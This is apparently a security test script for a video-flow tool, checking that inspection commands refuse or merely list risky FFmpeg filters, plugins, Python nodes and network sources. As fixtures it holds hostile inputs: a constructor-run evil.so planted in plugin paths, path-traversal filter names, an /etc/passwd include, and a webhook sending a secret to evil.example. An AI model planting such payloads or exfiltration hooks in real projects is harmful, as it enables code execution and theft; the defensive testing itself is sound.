#!/bin/sh
# SPDX-License-Identifier: MIT
# Flows of somebody else, which are only looked at.
. "${0%/*}/harness.sh"
. "$root/tests/cli/find_python.sh"

# What a flow could do is seen here: who connects to a port, who reads a pipe, and what is made.
python3 -c '
import socket, sys
server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], file=open("port.new", "w"))
import os
os.rename("port.new", "port")
while True:
    client = server.accept()[0]
    open("connected", "a").write("somebody\n")
    client.close()
' &
server=$!
trap 'kill $server 2>/dev/null; rm -rf "$workdir"' EXIT
await 'test -e port'
port=$(cat port)
mkfifo pipe pipe.py pipe.yaml pipe.onnx
echo secret >secret
mkdir folder
cat >evil.c <<'END'
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void load(void) { close(creat("made", 0600)); }
END
"${CC:-cc}" -shared -fPIC -o evil.so evil.c
echo 'open("made", "w")' >evil.py
mkdir -p home/.frei0r-1/lib home/.ladspa
cp evil.so home/.frei0r-1/lib/
cp evil.so home/.ladspa/
export HOME="$PWD/home" LADSPA_PATH="$PWD/home/.ladspa"

# unharmed: passes when nothing has been done.
unharmed () {
	test ! -e made
	test ! -e made.log
	test ! -e transforms.trf
	test ! -e connected
	test "$(cat secret)" = secret
	python3 -c '
import errno, os, stat, sys
for name in ("pipe", "pipe.py", "pipe.yaml", "pipe.onnx"):
    try:
        os.close(os.open(name, os.O_WRONLY | os.O_NONBLOCK))
        sys.exit(name + " is being read")
    except OSError as error:
        assert error.errno == errno.ENXIO, error
'
}

# flow NODE...: writes flow.yaml, with a source "in" of pictures, one "sound", and these nodes.
flow () {
	{
		echo 'vflow: 1'
		echo 'nodes:'
		echo '  in: {type: test_source, frames: 2, size: 64x48}'
		printf '  %s\n' "$@"
	} >flow.yaml
}

# look STATUS [COMMAND...]: has every command that only looks look at flow.yaml, or these.
look () {
	wanted_of_look=$1
	shift
	test $# -gt 0 ||
		set -- check explain graph config 'run --dry-run' 'complete -- run flow.yaml -s nodes.x.'
	for command
	do
		status=0
		# shellcheck disable=SC2086 # a list of words
		timeout "$limit" "$VFLOW" $command flow.yaml >out 2>err || status=$?
		test "$status" -ne 124
		test "$status" -lt 126
		case $command in
		check | explain | graph)
			test "$status" -eq "$wanted_of_look" || {
				cat flow.yaml out err
				return 1
			} ;;
		esac
		unharmed
	done
}

# graph TEXT: prints a node with this graph.
graph () {
	printf 'x: {type: filter, inputs: in, graph: "%s"}' "$(printf %s "$1" | sed 's/\\/\\\\/g; s/"/\\"/g')"
}

ffmpeg -v error -nostdin -filters | sed -n 's/^ [T.][S.][C.]* *\([a-z0-9_]*\) .*/\1/p' >filters
# has FILTER: passes when libavfilter has it.
has () {
	grep -qx "$1" filters
}

cat >refused <<END
frei0r filter_name=../../../..$PWD/evil
frei0r filter_name=evil
frei0r_src 4x4:evil[a];[in][a]overlay
zmq
zmq bind_address=tcp\\\\://127.0.0.1\\\\:$port
movie http\\\\://127.0.0.1\\\\:$port/x[a];[in][a]overlay
movie tcp\\\\://127.0.0.1\\\\:${port}[a];[in][a]overlay
movie filename=movie=secret:f=lavfi[a];[in][a]overlay
movie pipe:format_opts=x=y[a];[in][a]overlay
subtitles http\\\\://127.0.0.1\\\\:$port/x
subtitles f=made.log,psnr=f=made.log
psnr stats_file=made.log[o];[in0][in1][o]hstack
ssim stats_file=made.log
vmafmotion stats_file=made.log
metadata mode=print:file=made.log
metadata mode=print:file=http\\\\://127.0.0.1\\\\:$port/x
curves plot=made.log
deshake filename=made.log
paletteuse debug_kdtree=made.log
signature filename=made.log
vidstabdetect result=made.log
vidstabdetect
program_opencl source=secret:kernel=x
openclsrc source=secret:kernel=x:s=4x4[a];[in][a]overlay
libplacebo custom_shader_path=secret
sendcmd c=1 curves plot made.log,curves
END

it 'refuses filters that load, connect, listen or write, and does nothing of it' '
	while read -r filter arguments
	do
		has "$filter" || continue
		flow "$(graph "$filter${arguments:+=}$arguments")"
		look 78 check
		grep "graph: " err
	done <refused
	flow "$(graph zmq)"
	expect 78 "$VFLOW" check flow.yaml
	grep "^flow.yaml:4:[0-9]*: filter: graph: zmq listens on tcp://\*:5555; where it is to do that, set unsafe: true, and give --allow-unsafe$" err
'

it 'has them only where the flow and the command line say so, and does nothing when it looks' '
	while read -r filter arguments
	do
		case $filter$arguments in
		frei0r*=evil | zmq | vidstabdetect) ;;
		*) continue ;;
		esac
		has "$filter" || continue
		flow "$(graph "$filter${arguments:+=}$arguments" | sed "s/}\$/, unsafe: true}/")" \
			"o: {type: void, inputs: x}"
		expect 78 "$VFLOW" check flow.yaml
		grep "^flow.yaml:4:.*: graph: $filter .*, which is refused; give --allow-unsafe if you trust the flow$" err
		for command in check explain
		do
			expect 0 "$VFLOW" $command --allow-unsafe flow.yaml
			unharmed
		done
		sed -i "s/, unsafe: true//" flow.yaml
		expect 78 "$VFLOW" check --allow-unsafe flow.yaml
		grep "set unsafe: true" err
	done <refused
	flow "$(graph "metadata=mode=print:file=made.log" | sed "s/}\$/, unsafe: true}/")" \
		"o: {type: void, inputs: x}"
	expect 78 "$VFLOW" run -q flow.yaml
	unharmed
	expect 0 "$VFLOW" run -q --allow-unsafe flow.yaml
	test -e made.log
	rm made.log
	expect 0 "$VFLOW" capacity --max 1 --time 0.5 --allow-unsafe flow.yaml
	rm -f made.log
	expect 0 "$VFLOW" export --to compose --allow-unsafe flow.yaml
	grep -e "--allow-unsafe" out
'

it 'refuses in sound_filter and in a graph for a device what it refuses in filter' '
	cat >flow.yaml <<-END
	vflow: 1
	nodes:
	  in: {type: video_reader, path: in.mkv}
	  x: {type: sound_filter, inputs: in.audio_frames, graph: "ladspa=f=$PWD/evil.so:p=x"}
	  o: {type: video_writer, inputs: {audio: x}, path: made}
	END
	for text in "ladspa=f=evil:p=x" azmq "ametadata=mode=print:file=made.log" "amovie=http\\\\://127.0.0.1\\\\:${port}[a];[in][a]amix"
	do
		has "${text%%=*}" || continue
		expect 78 "$VFLOW" check -s "nodes.x.graph=$text" flow.yaml
		grep "sound_filter: graph: .*, and give --allow-unsafe" err
		unharmed
	done
'

# device GRAPH [MORE]: writes flow.yaml, with this graph for a camera.
device () {
	cat >flow.yaml <<-END
	vflow: 1
	mode: realtime
	nodes:
	  in: {type: device_reader, device: "$1", frames: 2${2:-, format: lavfi}}
	  o: {type: void, inputs: in}
	END
}

cat >devices <<END
metadata testsrc2=size=64x48,metadata=mode=print:file=made.log
curves testsrc2=size=64x48,curves=plot=made.log
frei0r_src frei0r_src=4x4:25:evil
zmq testsrc2=size=64x48,zmq
movie movie=http\\\\\\\\://127.0.0.1\\\\\\\\:$port/x
movie movie=filename=secret:f=lavfi
END

it 'refuses in a graph that stands for a device what it refuses in filter' '
	while read -r filter graph
	do
		has "$filter" || continue
		for format in lavfi LAVFI
		do
			device "$graph" ", format: $format"
			look 78
			"$VFLOW" check flow.yaml 2>err || true
			grep "device_reader: device: $filter .*; where it is to do that, set unsafe: true" err
		done
	done <devices
	device "testsrc2=size=64x48,metadata=mode=print:file=made.log" ", format: lavfi, unsafe: true"
	expect 78 "$VFLOW" run -q flow.yaml
	grep "which is refused; give --allow-unsafe" err
	unharmed
	expect 0 "$VFLOW" run -q --allow-unsafe flow.yaml
	test -e made.log
	rm made.log
	device "testsrc2=size=64x48,lut3d=file=missing"
	expect 78 "$VFLOW" check flow.yaml
	grep "device: there is no file \"missing\", which lut3d reads by file" err
	device "hflip"
	expect 78 "$VFLOW" check flow.yaml
	grep "device: hflip has an open input; begin with a source of pictures" err
	expect 78 "$VFLOW" check -s nodes.in.device=testsrc2 -s "nodes.in.options={graph_file: secret}" flow.yaml
	grep "option \"graph_file\" would replace the graph; write the graph as device" err
	device "movie=pipe,lut3d=file=secret"
	look 0 check explain graph
	expect 0 "$VFLOW" check --untrusted flow.yaml
	grep -x "reads pipe (in)" out
	grep -x "reads secret (in)" out
'

it 'takes no format of a device for one of a file' '
	device testsrc2
	echo "  f: {type: video_reader, path: secret, format: lavfi}" >>flow.yaml
	echo "  p: {type: void, inputs: f}" >>flow.yaml
	expect 78 "$VFLOW" check flow.yaml
	grep "format \"lavfi\" is that of a device; read it with device_reader" err
'

cat >reading <<END
lut3d file=%s
lut1d file=%s
subtitles %s
ass %s
movie %s[a];[in][a]overlay
drawtext textfile=%s
drawtext text=a:fontfile=%s
curves psfile=%s
selectivecolor psfile=%s
sendcmd f=%s
removelogo %s
find_rect %s
cover_rect %s
life filename=%s[a];[in][a]overlay
nnedi weights=%s
fieldhint hint=%s
sr model=%s
dnn_processing model=%s:input=x:output=y
vidstabtransform input=%s
END

it 'looks only whether files are there that filters read' '
	while read -r filter arguments
	do
		has "$filter" || continue
		# shellcheck disable=SC2059 # the format is from above
		flow "$(graph "$filter=$(printf "$arguments" pipe)")" "o: {type: void, inputs: x}"
		look 0 check
		sed -i "s/pipe/missing/" flow.yaml
		expect 78 "$VFLOW" check flow.yaml
		grep "^flow.yaml:4:[0-9]*: filter: graph: there is no file \"missing\", which $filter reads by " err
	done <reading
	expect 78 "$VFLOW" run flow.yaml
	grep "there is no file \"missing\"" err
	flow "$(graph "movie=pipe[a];[in][a]overlay,curves=psfile=pipe,drawtext=textfile=/dev/zero")" \
		"o: {type: void, inputs: x}"
	look 0
'

it 'runs no Python, no program and no library that a flow names' '
	flow "x: {type: python, inputs: in, call: evil.py:process}" "o: {type: void, inputs: x}"
	look 0
	flow "x: {type: python, inputs: in, code: \"open(\\\"made\\\", \\\"w\\\")\"}" "o: {type: void, inputs: x}"
	look 0
	flow "x: {type: python, inputs: in, call: pipe.py:process}" "o: {type: void, inputs: x}"
	look 0
	flow "x: {type: process, inputs: in, command: [touch, made], outputs: {out: video}}" "o: {type: void, inputs: x}"
	look 0
	flow "x: {type: detect, inputs: in, model: secret, runtime: ./evil.so}" "o: {type: void, inputs: x.boxes}"
	look 0
	flow "x: {type: detect, inputs: in, model: pipe.onnx, runtime: ./evil.so}" "o: {type: void, inputs: x.boxes}"
	look 0
	flow "x: {type: detect, inputs: in, model: pipe.onnx}" "o: {type: void, inputs: x.boxes}"
	look 0
	{ echo "plugins: ./evil.so"; cat flow.yaml; } >flow.new
	mv flow.new flow.yaml
	look 78
'

it 'opens neither streams nor pipes nor devices that a flow names' '
	for path in pipe /dev/zero "tcp://127.0.0.1:$port" "http://127.0.0.1:$port/x" "rtsp://127.0.0.1:$port/x" \
		"concat:secret|pipe" "subfile,,start,0,end,1,,:secret"
	do
		flow "r: {type: video_reader, path: \"$path\"}" "o: {type: void, inputs: r}"
		for command in check explain
		do
			timeout "$limit" "$VFLOW" $command flow.yaml >out 2>err || test $? -lt 124
			unharmed
		done
	done
	flow "h: {type: webhook, inputs: in, url: \"http://127.0.0.1:$port/x\"}"
	look 0 check explain
	flow "z: {type: zmq_in, endpoint: \"tcp://127.0.0.1:$port\", mode: connect}" "o: {type: void, inputs: z}"
	look 0 check explain
	flow "m: {type: mqtt_out, inputs: in, broker: \"mqtt://127.0.0.1:$port\", topic: a}"
	look 0 check explain
	flow "n: {type: nats_out, inputs: in, server: \"nats://127.0.0.1:$port\", subject: a}"
	look 0 check explain
	flow "b: {type: draw_boxes, inputs: in, boxes: [1, 2, 3, 4], labels: pipe}" "o: {type: void, inputs: b}"
	look 0 check explain
	flow "d: {type: draw_text, inputs: in, text: a, font: ./pipe}" "o: {type: void, inputs: d}"
	look 0 check explain
'

it 'makes no call of the system that could do harm' '
	command -v strace >/dev/null || exit 0
	echo person >labels
	flow "p: {type: python, inputs: in, call: evil.py:process}" \
		"m: {type: filter, inputs: p, graph: \"movie=secret[a];[in][a]overlay,drawtext=textfile=secret,lut3d=secret\"}" \
		"b: {type: draw_boxes, inputs: m, boxes: [1, 2, 3, 4], labels: labels}" \
		"o: {type: video_writer, inputs: b, path: out.mp4}"
	for command in check explain graph
	do
		ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 strace -f -o calls \
			-e trace=network,execve,execveat,open,openat,creat,kill,ptrace "$VFLOW" $command flow.yaml >out 2>err
		lacks calls "secret.* = [0-9]"
		grep -E "(socket|connect|bind|listen|ptrace|execve)[a-z]*\(" calls | grep -v -e " = -1 " -e "$VFLOW" >harm || true
		test ! -s harm || { cat harm; exit 1; }
		grep -E "O_(WRONLY|RDWR|CREAT)" calls | grep -v -e " = -1 " -e "/dev/null" >harm || true
		test ! -s harm || { cat harm; exit 1; }
	done
'

it 'reads flow files alone as parts of a flow' '
	for file in ../../../../../../../../../../etc/passwd pipe.yaml /dev/zero folder secret
	do
		printf "%s\n" "vflow: 1" "include: $file" "nodes: {in: {type: int_source}}" >flow.yaml
		look 78 check
		flow "p: {type: flow, file: $file}"
		look 78 check
	done
'

it 'writes no file when it tries settings of an encoder' '
	ffmpeg -v error -h encoder=libx264 | grep -q "Encoder libx264" || exit 0
	flow "o: {type: video_writer, inputs: in, path: out.mp4, codec: libx264, options: {flags: +pass1, stats: made.log}}"
	look 0 check
	flow "o: {type: video_writer, inputs: in, path: out.mp4, codec: libx264, options: {x264-params: \"pass=1:stats=made.log\"}}"
	look 0 check
	flow "o: {type: video_writer, inputs: in, path: out.mp4, codec: libx264, options: {tune: odd}}"
	expect 78 "$VFLOW" check flow.yaml
	grep "options.tune: " err
'

cat >listed.yaml <<'END'
vflow: 1
include: parts/more.yaml
plugins: ./evil.so
transport: {tcp: {host: 127.0.0.1, base: 7000}}
vars: {where: out}
nodes:
  r: {type: video_reader, path: "rtsp://user:pw@cam/1"}
  f: {type: filter, inputs: r, graph: "lut3d=file=x.cube,vidstabdetect,hflip", unsafe: true}
  p: {type: python, inputs: f, call: "evil.py:process"}
  d: {type: detect, inputs: f, model: m.onnx, runtime: ./ort.so, provider: cpu}
  w: {type: video_writer, inputs: f, path: "${where}/a-{seq:03d}.mp4", segment_time: 10, keep: 5, hw: "off"}
  h: {type: webhook, inputs: d.objects, url: "https://evil.example/${SECRET_OF_TEST:-x}"}
  x: {type: own, inputs: f}
  c: {type: process, inputs: f, command: [curl, "http://x"]}
  t: {type: video_reader, path: "tcp://0.0.0.0:5", options: {listen: 1, protocol_whitelist: "tcp,file"}}
  k: {type: video_writer, inputs: t, path: k/k.m3u8, codec: libx264,
      options: {hls_key_info_file: keys/info, x264-params: "qpfile=qp:stats=log/s", hls_time: 2}}
END
mkdir parts
echo '{vflow: 1, nodes: {z: {type: zmq_in, endpoint: "ipc://pipe"}, v: {type: print, inputs: z}}}' >parts/more.yaml
cat >listed <<'END'
connects to https://evil.example/x (h)
connects to ipc://pipe (z: endpoint)
gives libav the option hls_time=2 (k: options)
gives libav the option protocol_whitelist=tcp,file (t: options)
listens on tcp://0.0.0.0:5 (t)
reads files below keys (k)
reads keys/info (k)
reads qp (k)
writes files below log (k)
connects to rtsp://***@cam/1 (r: path)
does whatever the code of a plugin does own (x)
includes parts/more.yaml
listens on tcp://127.0.0.1, from port 7000 on
loads code from ./evil.so
loads code from ./ort.so (d: runtime)
reads m.onnx (d: model)
reads the variable SECRET_OF_TEST
reads x.cube (f)
removes files named out/a-{seq:03d}.mp4 (w: path)
runs Python code evil.py:process (p: call)
runs curl (c)
runs python3 (p)
writes out/a-{seq:03d}.mp4 (w: path)
writes transforms.trf (f; only with --allow-unsafe)
END

it 'lists what a flow would do, and opens nothing for it' '
	sed -i "s/{type: zmq_in, /&mode: connect, /" parts/more.yaml
	has vidstabdetect || sed -i "s/vidstabdetect,//" listed.yaml
	has vidstabdetect || sed -i "/transforms.trf/d" listed
	expect 0 "$VFLOW" check --untrusted listed.yaml
	unharmed
	while read -r line
	do
		says out "$line"
	done <listed
	cp out first
	expect 0 env SECRET_OF_TEST=y "$VFLOW" check --untrusted listed.yaml
	sed "s,example/x,example/y," first | cmp - out
	expect 0 "$VFLOW" check --untrusted --json listed.yaml
	python3 -c "
import json
said = json.load(open(\"out\"))
assert said[\"mistakes\"] == [], said
deeds = said[\"flows\"][\"listed.yaml\"]
assert len(deeds) == len(open(\"first\").readlines())
assert {\"does\": \"reads\", \"name\": \"m.onnx\", \"node\": \"d\", \"option\": \"model\", \"needs_allow_unsafe\": False} in deeds
"
	command -v strace >/dev/null || exit 0
	ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 strace -f -o calls -e trace=open,openat,network \
		"$VFLOW" check --untrusted listed.yaml >out
	grep -v -e " = -1 " calls | sed -n "s/.*open[a-z]*(\(AT_FDCWD, \)*\"\([^/][^\"]*\).*/\2/p" | sort -u >opened
	printf "%s\n" listed.yaml parts/more.yaml | cmp - opened
'

it 'lists no flow that is made of files elsewhere, and says what is wrong as ever' '
	for file in /etc/passwd ../listed.yaml
	do
		mkdir -p inner
		printf "%s\n" "vflow: 1" "include: $file" "nodes: {in: {type: int_source}}" >inner/flow.yaml
		expect 78 "$VFLOW" check --untrusted inner/flow.yaml
		grep "^inner/flow.yaml:2:10: \".*\" is outside of the folder of the flow, and so is not opened" err
	done
	flow "x: {type: filter, inputs: in, graph: zmq}" "o: {type: void, inputs: x}"
	expect 78 "$VFLOW" check --untrusted flow.yaml
	grep "set unsafe: true" err
	flow "x: {type: risize, inputs: in}"
	expect 78 "$VFLOW" check --untrusted --json flow.yaml
	grep "did you mean" out
'

done_testing
